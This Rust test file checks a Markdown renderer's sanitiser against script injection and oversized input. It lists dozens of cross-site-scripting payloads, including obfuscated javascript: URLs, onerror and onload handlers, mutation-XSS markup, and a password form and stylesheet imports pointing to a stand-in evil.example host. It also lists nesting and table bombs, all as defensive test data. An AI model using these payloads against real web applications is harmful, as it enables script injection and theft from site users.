//! What attackers write: spellings that try to become script, and sources that try to cost more
//! than they are long. Bounds are on bytes and refusals, never on time.

use proptest::prelude::*;

use super::budget::{
    ARTICLE_BYTES, ARTICLE_HTML_BYTES, MESSAGE_BYTES, MESSAGE_HTML_BYTES, TextError,
};
use super::html_check::{Allowed, violations};
use super::{ImageRef, LinkResolver, Resolved, SafeHtml, render_article, render_message};
use crate::platform::i18n::Lang;

/// Believes everything it reads, as the worst resolver would.
struct Credulous;

impl LinkResolver for Credulous {
    fn link(&self, target: &str) -> Resolved {
        if target.len().is_multiple_of(2) {
            Resolved::Local(target.to_owned())
        } else {
            Resolved::External(target.to_owned())
        }
    }

    fn image(&self, target: &str) -> Option<ImageRef> {
        Some(ImageRef {
            src: target.to_owned(),
            size: Some((1, u32::MAX)),
        })
    }
}

/// Addresses that run script or load from elsewhere in some browser or some renderer.
const TARGETS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6a;avascript:alert(1)",
    "&#106&#97vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&#x09;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\\script:alert(1)",
    "&#1;javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript:x//http://",
    "javascript://%0aalert(1)",
    "jav\u{AD}ascript:alert(1)",
    "javascript\u{A0}:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>1</script>",
    "Data:text/html;base64,PHN2Zz4=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "about:blank",
    "view-source:https://a.example",
    "intent://a#Intent;end",
    "ms-msdt:/id",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/&#9;/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http://a@evil.example",
    "\"onmouseover=\"alert(1)",
    "'onerror='alert(1)",
    "x\"><script>alert(1)</script>",
    "https://a.example/\"onclick=\"alert(1)",
    "https://a.example/'><img src=x onerror=alert(1)>",
    "&quot;&gt;&lt;script&gt;",
    "%6aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "#\"onclick=x",
    "?javascript:alert(1)",
    "tel:\"onclick=x",
    "mailto:a@b.example\"onclick=\"x",
    "feed:javascript:alert(1)",
    "jar:https://a.example!/",
    "ｊavascript:alert(1)",
];

/// Markup as it comes in mails and tickets.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>1</script>",
    "<title><a id=\"</title><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>1</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=password><button formaction=javascript:1>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<object data=x>",
    "<embed src=x>",
    "<video poster=//evil.example><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(//evil.example)\">",
    "<!--[if IE]><script>1</script><![endif]-->",
    "<![CDATA[<script>1</script>]]>",
    "<?xml version=1?><script>1</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<x onclick=alert(1)>",
    "<p/onmouseover=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>1</script></template>",
    "</p><script>alert(1)</script>",
    "<b\u{0}ad onclick=x>",
    "<img src=\"a\" srcset=\"//evil.example 1x\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// Where a target can stand in Markdown.
fn spellings(target: &str) -> Vec<String> {
    vec![
        format!("[a]({target})"),
        format!("[a](<{target}>)"),
        format!("[a]({target} \"{target}\")"),
        format!("![a]({target})"),
        format!("![{target}](<{target}> '{target}')"),
        format!("<{target}>"),
        format!("[a][r]\n\n[r]: {target}"),
        format!("[r]\n\n[r]: <{target}> ({target})"),
        format!("[![a]({target})]({target})"),
        format!("[a\n]: {target}\n\n[a]"),
        format!("# {target}\n\n{target}\n"),
        format!("```{target}\n{target}\n```"),
        format!("|{target}|\n|-|\n|[a](<{target}>)|"),
        format!("> [!NOTE]\n> **{target}**\n> {target}"),
        format!("[^{target}]\n\n[^{target}]: <{target}>"),
        format!("https://a.example/{target}"),
        format!("**[`{target}`](<{target}>)**"),
    ]
}

fn assert_harmless(source: &str) {
    if let Ok(article) = render_article(source, Lang::Fr, &Credulous) {
        let found = violations(article.html.as_str(), Allowed::Article);
        assert!(
            found.is_empty(),
            "{source:?} gave {found:?} in {}",
            article.html
        );
        assert!(article.html.as_str().len() <= ARTICLE_HTML_BYTES);
    }
    if let Ok(message) = render_message(source) {
        let found = violations(message.as_str(), Allowed::Message);
        assert!(found.is_empty(), "{source:?} gave {found:?} in {message}");
        assert!(message.as_str().len() <= MESSAGE_HTML_BYTES);
    }
    let plain = SafeHtml::plain_text(source);
    assert_eq!(
        violations(plain.as_str(), Allowed::Message),
        [""; 0],
        "{source:?}"
    );
}

#[test]
fn no_target_becomes_a_script() {
    for target in TARGETS {
        for source in spellings(target) {
            assert_harmless(&source);
        }
    }
}

#[test]
fn no_markup_becomes_a_tag() {
    for markup in MARKUP {
        for source in spellings(markup) {
            assert_harmless(&source);
        }
        for frame in ["", "a ", "> ", "- ", "    ", "<div>\n", "\n\n"] {
            assert_harmless(&format!("{frame}{markup}\n{markup}"));
        }
    }
}

#[test]
fn the_corpus_is_rendered_and_not_refused() {
    for target in TARGETS.iter().chain(MARKUP) {
        for source in spellings(target) {
            assert!(
                render_article(&source, Lang::Fr, &Credulous).is_ok(),
                "{source:?}"
            );
            assert!(render_message(&source).is_ok(), "{source:?}");
        }
    }
}

/// `unit` repeated up to `bytes`.
fn filled(unit: &str, bytes: usize) -> String {
    unit.repeat(bytes / unit.len())
}

#[test]
fn what_is_longer_than_its_kind_is_refused_unread() {
    let long = filled("> ", 1 << 20);
    assert_eq!(
        render_message(&long),
        Err(TextError::SourceTooLong {
            bytes: 1 << 20,
            max: MESSAGE_BYTES
        })
    );
    assert_eq!(
        render_article(&long, Lang::Fr, &Credulous).map(|article| article.words),
        Err(TextError::SourceTooLong {
            bytes: 1 << 20,
            max: ARTICLE_BYTES
        })
    );
}

#[test]
fn nesting_is_refused() {
    let deepening: String = (0..70)
        .map(|depth| format!("{}- a\n", "  ".repeat(depth)))
        .collect();
    for source in [
        filled("> ", MESSAGE_BYTES),
        filled(">", MESSAGE_BYTES),
        filled("- ", 60_000),
        filled("1. ", 60_000),
        deepening,
    ] {
        let error = render_message(&source).expect_err("nested too deep");
        assert!(matches!(error, TextError::NestedTooDeep { .. }), "{error}");
        assert!(render_article(&source, Lang::Fr, &Credulous).is_err());
    }
}

#[test]
fn tables_are_refused_before_they_grow() {
    let wide = format!(
        "{}\n{}\n{}",
        "|a".repeat(8_000),
        "|-".repeat(8_000),
        "|\n".repeat(8_000)
    );
    let tall = format!("|a|b|c|\n|-|-|-|\n{}", "x\n".repeat(20_000));
    for source in [wide, tall] {
        assert!(matches!(
            render_message(&source),
            Err(TextError::TableTooLarge { .. })
        ));
        assert!(matches!(
            render_article(&source, Lang::Fr, &Credulous),
            Err(TextError::TableTooLarge { .. })
        ));
    }
}

#[test]
fn repeated_marks_stay_within_their_output() {
    let units = [
        "[a](",
        "[",
        "![",
        "](",
        "*a ",
        "**",
        "*a_ ",
        "~~a ",
        "`",
        "``` \n",
        "<",
        "<a ",
        "<div>",
        "</div>\n",
        "<!--",
        "&",
        "&amp;",
        "\"",
        "'",
        "a\n",
        "a\n\n",
        "#\n",
        "# a\n\n",
        "[a]: b\n",
        "[a][a]",
        "[^a]",
        "[^a]: b\n\n",
        "http://a ",
        "http://a)",
        "<http://a>",
        "\\",
        "|",
        "||\n",
        "-\n",
        "- [ ] a\n",
        "1. **a**\n",
        "> [!NOTE]\n> **a**\n\n",
        "***\n",
        "\t",
        "\u{A0}",
        "é",
        "\u{0}",
        "\r",
        "![a](b)",
        "[a](b \"c\")",
        "~~~\n",
        "    a\n\n",
        "*a*",
        "a  \n",
        "[[a](b)](c)",
        "://",
    ];
    for unit in units {
        assert_harmless(&filled(unit, 8 * 1024));
        let expanded = format!("[a]: https://a.example/{}\n\n", "x".repeat(900));
        assert_harmless(&format!("{expanded}{}", filled(unit, 2 * 1024)));
    }
    for unit in ["&", "\"", "\u{A0}", "a\n", "[a](", "*a ", "http://a "] {
        let source = filled(unit, MESSAGE_BYTES);
        assert!(render_message(&source).is_ok(), "{unit:?}");
        assert_harmless(&source);
    }
}

#[test]
fn emphasis_beyond_measure_is_text_and_not_a_refusal() {
    let html = render_message(&filled("*a **b ", 3_000)).expect("rendered");
    assert!(html.as_str().contains('a'));
    let closed = format!("{}x{}", "*a ".repeat(500), " a*".repeat(500));
    assert!(
        render_message(&closed)
            .expect("rendered")
            .as_str()
            .matches("<em>")
            .count()
            <= 16
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    #[test]
    fn any_text_is_harmless(source in any::<String>()) {
        assert_harmless(&source);
    }

    #[test]
    fn any_mixture_of_marks_is_harmless(parts in prop::collection::vec(part(), 0..40)) {
        assert_harmless(&parts.concat());
    }
}

/// Pieces of Markdown, of HTML and of the corpora, so that they meet in each other's contexts.
fn part() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => prop::sample::select(vec![
            "[", "](", ")", "![", "]: ", "<", ">", "\"", "'", "`", "```\n", "*", "**", "_", "~~", "|", "|-|-|\n", "\n", "\n\n", "> ",
            "> [!NOTE]\n", "- ", "1. ", "    ", "# ", "[^a]", "[^a]: ", "&#", "x6a;", "\\", "http://", "://", "=", " on", "<!--", "-->",
            "</", "/>", "\u{0}", "\t", "[r]", "[r]: ",
        ]).prop_map(str::to_owned),
        1 => prop::sample::select(TARGETS).prop_map(str::to_owned),
        1 => prop::sample::select(MARKUP).prop_map(str::to_owned),
        1 => "[a-zé0-9 ]{1,6}",
    ]
}
